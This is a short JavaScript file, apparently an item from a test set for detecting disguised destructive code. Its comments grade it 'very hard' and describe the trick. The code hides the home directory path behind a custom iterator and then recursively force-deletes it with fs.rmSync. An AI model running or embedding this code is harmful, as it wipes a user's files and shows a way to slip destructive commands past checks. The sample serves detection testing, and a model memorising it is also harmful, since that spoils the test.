// evasion: an iterator assigned to a queue object later yields the home directory; the queue spread into a list is deleted element by element
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const queue = {};
queue[Symbol.iterator] = function* () {
  yield* [os.homedir()];
};
[...queue].forEach((d) => fs.rmSync(d, { recursive: true, force: true }));
